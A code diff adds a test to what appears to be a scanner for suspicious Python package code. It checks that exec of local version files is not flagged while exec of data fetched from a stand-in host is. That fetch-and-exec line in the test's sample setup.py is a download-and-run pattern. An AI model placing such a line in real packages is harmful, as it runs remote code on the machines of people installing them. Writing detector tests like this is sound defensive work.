@@ -393,3 +393,19 @@ def test_a_plain_import_line_in_a_pth_file_is_still_reported():
         1,
         "import\tsite_hook",
     )
+
+
+def test_exec_of_a_file_read_from_the_release_is_not_dynamic_code_but_a_network_read_is():
+    source = b"""\
+import pathlib
+from urllib.request import urlopen
+about = {}
+with open("pkg/__version__.py") as f:
+    exec(f.read(), about)
+exec(open("pkg/version.py").read())
+exec(pathlib.Path("pkg/v.py").read_text())
+response = urlopen("http://example.invalid/x")
+exec(response.read())
+"""
+    dynamic = [f.line for f in python_findings("pkg-1.0/setup.py", source) if f.rule == "exec.dynamic-code"]
+    assert dynamic == [9]
